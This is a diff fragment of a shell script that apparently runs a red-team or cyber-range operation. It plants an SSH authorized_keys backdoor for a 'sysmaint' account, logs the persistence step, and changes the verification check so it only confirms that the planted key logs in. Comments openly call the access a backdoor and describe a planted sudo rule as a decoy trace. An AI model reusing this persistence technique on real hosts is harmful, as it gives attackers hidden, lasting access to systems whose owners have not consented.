@@ -19,4 +19,6 @@ sudo chmod 600 /home/sysmaint/.ssh/authorized_keys
 exit
 CMDS
 log "persist done rc=$?"
-ssh $SSHO -o BatchMode=yes -i "$KEY" "sysmaint@$TARGET" 'sudo -n id' >> "$OPS/op.log" 2>&1
+# The backdoor works when the key alone logs in as sysmaint. (Range hosts run with
+# no-new-privileges, so sysmaint's sudo rule is a planted trace, not a working path.)
+ssh $SSHO -o BatchMode=yes -i "$KEY" "sysmaint@$TARGET" 'id' >> "$OPS/op.log" 2>&1
